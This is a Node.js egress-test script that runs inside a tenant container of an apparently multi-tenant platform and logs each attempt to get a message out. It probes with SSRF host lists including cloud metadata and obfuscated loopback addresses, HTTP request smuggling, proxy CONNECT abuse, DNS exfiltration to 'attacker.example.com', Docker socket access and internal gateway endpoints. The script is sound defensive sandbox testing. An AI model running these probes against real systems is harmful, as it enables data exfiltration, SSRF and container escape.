// Runs inside a tenant's container and tries to get a message out. One JSON line per try: what was tried and what came
// back. Judging is the caller's; nothing here knows what should be blocked.
import dgram from 'node:dgram';
import dns from 'node:dns';
import { existsSync, readdirSync } from 'node:fs';
import net from 'node:net';
import tls from 'node:tls';

const { tenant, other, port, hostPort, hostAddresses, sockets, allowed } = JSON.parse(process.env.CANARY);
/** For an answer in HTTP, which comes however busy the machine is. */
const answerWaitMs = 15_000;
/** For what says nothing, mostly. */
const silentWaitMs = 800;
const atOnceMax = 12;

const tries = [];
/** Notes a try for later: all of them run together, a few at once. */
function tell(channel, what, go) {
  tries.push({ channel, what, go });
}

async function runAll() {
  const queue = tries.entries();
  const runner = async () => {
    for (const [at, { channel, what, go }] of queue) {
      const came = await Promise.resolve(go()).catch((error) => `no: ${error.code ?? error.message}`);
      const text = String(came).replaceAll(/\s+/g, ' ').slice(0, 2_000);
      process.stdout.write(`${JSON.stringify({ at, channel, what, came: text })}\n`);
    }
  };
  await Promise.all(Array.from({ length: atOnceMax }, runner));
}

/** Where the first whole HTTP answer in `text` ends; -1 when it has not ended, or ends with its connection. */
function answerEnd(text) {
  const bodyAt = text.indexOf('\r\n\r\n') + 4;
  if (bodyAt < 4) return -1;
  const head = text.slice(0, bodyAt);
  if (/^HTTP\/1\.\d (?:1\d\d|204|304)/.test(head)) return bodyAt;
  const length = /^content-length: *(\d+)/im.exec(head)?.[1];
  if (length !== undefined) return text.length < bodyAt + Number(length) ? -1 : bodyAt + Number(length);
  if (!/^transfer-encoding: *chunked/im.test(head)) return -1;
  for (let at = bodyAt; ;) {
    const line = /^([0-9a-f]+)[^\n]*\r\n/i.exec(text.slice(at, at + 100));
    if (line === null) return -1;
    const size = Number.parseInt(line[1], 16);
    at += line[0].length + size + 2;
    if (at > text.length) return -1;
    if (size === 0) return at;
  }
}

/** Sends bytes on a connection and resolves with what came back, at the latest after as many whole answers. */
function exchange(socket, bytes, { waitMs = answerWaitMs, answers = 1 } = {}) {
  return new Promise((resolve) => {
    let got = '';
    let readTo = 0;
    let left = answers;
    const done = (why) => {
      clearTimeout(timer);
      socket.destroy();
      resolve(got === '' ? why : got);
    };
    const timer = setTimeout(() => done('nothing in time'), waitMs);
    const ready = socket instanceof tls.TLSSocket ? 'secureConnect' : 'connect';
    socket.on(ready, () => socket.write(bytes));
    socket.on('data', (chunk) => {
      got += chunk.toString('latin1');
      for (let end = answerEnd(got.slice(readTo)); end >= 0; end = answerEnd(got.slice(readTo))) {
        readTo += end;
        left--;
      }
      if (left <= 0) done('');
    });
    socket.on('error', (error) => done(`no: ${error.code ?? error.message}`));
    socket.on('close', () => done('closed'));
  });
}

const get = (host, path = '/canary', more = '') =>
  `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}Connection: close\r\n\r\n`;
const plain = (dial, bytes, at = 80) => exchange(net.connect({ host: dial, port: at }), bytes);
const silent = (dial, bytes, at) => exchange(net.connect({ host: dial, port: at }), bytes, { waitMs: silentWaitMs });
const secure = (dial, servername, bytes) =>
  exchange(tls.connect({ host: dial, port: 443, servername, rejectUnauthorized: false }), bytes);

// The control: what is allowed does get out, so the rest is not blocked by accident.
tell('control', `http ${allowed}`, () => plain(allowed, get(allowed)));
tell('control', `https ${allowed}`, () => secure(allowed, allowed, get(allowed)));
tell('control', `https ${allowed}:443`, () => secure(allowed, allowed, get(`${allowed}:443`)));

const hosts = [
  'attacker.example.com',
  'ATTACKER.example.COM.',
  'xn--bcher-kva.example.com',
  `x@${allowed}`,
  `${allowed}@attacker.net`,
  '127.0.0.1',
  '127.1',
  '2130706433',
  '0x7f000001',
  '0177.0.0.1',
  '0',
  '0.0.0.0',
  '10.0.0.1',
  '172.16.0.1',
  '192.168.1.1',
  '100.64.0.1',
  '169.254.169.254',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '224.0.0.1',
  '255.255.255.255',
  '8.8.8.8',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
  '[::ffff:7f00:1]',
  '[::127.0.0.1]',
  '[64:ff9b::7f00:1]',
  '[2002:7f00:1::1]',
  '[fe80::1]',
  '[fe80::1%25lo]',
  '[fc00::1]',
  '[fd00:ec2::254]',
  '[2606:4700:4700::1111]',
  'localhost',
  'a.localhost',
  'localhost.',
  'metadata.google.internal',
  'metadata',
  'instance-data',
  'printer.local',
  'router.lan',
  'hidden.onion',
  '127.0.0.1.nip.io',
  'a.trycloudflare.com',
  'api.cloudflare.com',
  'x.r2.cloudflarestorage.com',
  `${tenant}.localhost`,
  `${other}.localhost`,
  `${other}.localhost:${port}`,
  'hooks.localhost',
  'browser.tidepool.internal',
  'other.tidepool.internal',
  'tidepool.internal',
  'r2.internal',
  `localhost:${port}`,
  `127.0.0.1:${hostPort}`,
  `${allowed}:8080`,
  `${allowed}:8443`,
];
for (const host of hosts) {
  tell('http, Host header', host, () => plain(allowed, get(host)));
  if (!host.includes('[') && !host.includes('@'))
    tell('http, by name', host, () => plain(host.replace(/:\d+$/, ''), get(host)));
  tell('https, Host header', host, () => secure(allowed, allowed, get(host)));
}
tell('http, Host header', `${allowed}:443`, () => plain(allowed, get(`${allowed}:443`)));
tell('https, Host header', `${allowed}:80`, () => secure(allowed, allowed, get(`${allowed}:80`)));
for (const name of ['attacker.example.com', '127.0.0.1.nip.io', `${other}.localhost`])
  tell('https, SNI', name, () => secure(allowed, name, get(name)));
tell('https, SNI and Host differ', 'attacker.example.com', () => secure(allowed, allowed, get('attacker.example.com')));

const absolute = `GET http://attacker.example.com/canary HTTP/1.1\r\nHost: ${allowed}\r\nConnection: close\r\n\r\n`;
tell('proxy', 'absolute form', () => plain(allowed, absolute));
tell('proxy', 'CONNECT through an allowed host', () =>
  plain(allowed, `CONNECT attacker.example.com:443 HTTP/1.1\r\nHost: attacker.example.com:443\r\n\r\n`),
);
for (const at of [3128, 8080, 1080, 9050]) tell('proxy', `port ${at}`, () => silent(allowed, get(allowed), at));
tell('methods', `POST ${allowed}`, () =>
  plain(allowed, `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 6\r\nConnection: close\r\n\r\nsecret`),
);
tell('methods', `TRACE ${allowed}`, () => plain(allowed, get(allowed).replace('GET', 'TRACE')));
tell('methods', `PUT ${allowed}`, () =>
  plain(allowed, `PUT /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`),
);

const second = get('attacker.example.com', '/second');
tell('one connection', 'allowed, then not', () =>
  exchange(net.connect({ host: allowed, port: 80 }), get(allowed).replace('Connection: close\r\n', '') + second, {
    answers: 2,
  }),
);
tell('one connection', 'two Host headers', () =>
  plain(allowed, `GET /canary HTTP/1.1\r\nHost: ${allowed}\r\nHost: attacker.example.com\r\nConnection: close\r\n\r\n`),
);
tell('one connection', 'a length and chunks', () =>
  plain(
    allowed,
    `POST /canary HTTP/1.1\r\nHost: ${allowed}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
  ),
);

const upgrade = 'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n';
for (const host of ['attacker.example.com', '127.0.0.1', `${other}.localhost`, allowed])
  tell('WebSocket', host, () =>
    plain(allowed, get(host, '/canary', upgrade).replace('Connection: close', 'Connection: Upgrade')),
  );

// The client follows what an allowed host says, as most do.
for (const to of [
  'http://169.254.169.254/latest/meta-data/',
  `http://${other}.localhost/`,
  'http://attacker.example.com/',
]) {
  tell('redirect', to, async () => {
    const answer = await plain(allowed, get(allowed, `/redirect?to=${encodeURIComponent(to)}`));
    const next = /^location: (.*)$/im.exec(answer)?.[1]?.trim();
    if (next === undefined) return `not redirected: ${answer}`;
    return plain(allowed, get(new URL(next).host, new URL(next).pathname));
  });
}

for (const address of hostAddresses) {
  tell('TCP to the host machine', `${address}:${hostPort}`, () => silent(address, get('x'), hostPort));
  tell('TCP to the platform', `${address}:${port}`, () => silent(address, get('localhost'), port));
}
for (const [address, at] of [
  ['8.8.8.8', 53],
  ['1.1.1.1', 443],
  ['1.1.1.1', 853],
  ['8.8.8.8', 22],
  ['8.8.8.8', 25],
  ['2606:4700:4700::1111', 443],
])
  tell('raw TCP', `${address}:${at}`, () => silent(address, 'secret\r\n', at));
tell('not HTTP on 443', allowed, () => silent(allowed, 'SSH-2.0-canary\r\n', 443));
tell('not HTTP on 80', allowed, () => silent(allowed, 'EHLO canary\r\n', 80));

function udp(address, at) {
  return new Promise((resolve) => {
    const socket = dgram.createSocket(address.includes(':') ? 'udp6' : 'udp4');
    const done = (came) => (clearTimeout(timer), socket.close(), resolve(came));
    const timer = setTimeout(() => done('nothing in time'), silentWaitMs);
    socket.on('message', (message) => done(message.toString('latin1')));
    socket.on('error', (error) => done(`no: ${error.code}`));
    socket.send('canary', at, address, (error) => error && done(`no: ${error.code}`));
  });
}
for (const address of [...hostAddresses, '8.8.8.8', '255.255.255.255', '224.0.0.251', '2001:4860:4860::8888'])
  tell('UDP', `${address}:${hostPort}`, () => udp(address, hostPort));

async function resolve(server, type) {
  const resolver = new dns.promises.Resolver({ timeout: 1_000, tries: 1 });
  if (server !== null) resolver.setServers([server]);
  return resolver.resolve(`secret-${type.toLowerCase()}.attacker.example.com`, type).then(
    (records) => JSON.stringify(records),
    (error) => `no: ${error.code}`,
  );
}
for (const type of ['A', 'TXT', 'MX', 'CNAME', 'NS', 'SRV'])
  tell('DNS', `own resolver, ${type}`, () => resolve(null, type));
for (const server of ['8.8.8.8', '1.1.1.1']) tell('DNS', `${server}, TXT`, () => resolve(server, 'TXT'));

for (const file of [
  ...sockets,
  '/var/run/docker.sock',
  '/run/docker.sock',
  '/run/containerd/containerd.sock',
  '/run/dbus/system_bus_socket',
])
  tell('sockets', file, () => exchange(net.connect(file), 'GET /_ping HTTP/1.0\r\n\r\n', { waitMs: silentWaitMs }));
for (const dir of ['/run', '/tmp', '/var/run']) {
  const found = existsSync(dir)
    ? readdirSync(dir, { recursive: true }).filter((name) => /sock/.test(String(name)))
    : [];
  tell('sockets', `in ${dir}`, () => (found.length === 0 ? 'no: none' : found.join(' ')));
}
for (const path of ['/status', '/snapshot', '/gateway/stop'])
  tell('keeper', path, () => plain('127.0.0.1', get('127.0.0.1', path), 18_700));
tell('gateway', 'as nobody', () => plain('127.0.0.1', get('127.0.0.1', '/api/sessions'), 18_789));
tell('own hosts', 'tenant.tidepool.internal/other', () =>
  plain('tenant.tidepool.internal', get('tenant.tidepool.internal', '/other')),
);
tell('own hosts', 'ai.tidepool.internal/other', () =>
  plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other')),
);
tell('own hosts', 'another run claimed', () =>
  plain('ai.tidepool.internal', get('ai.tidepool.internal', '/other', 'x-tidepool-internal-incarnation: 99\r\n')),
);

await runAll();
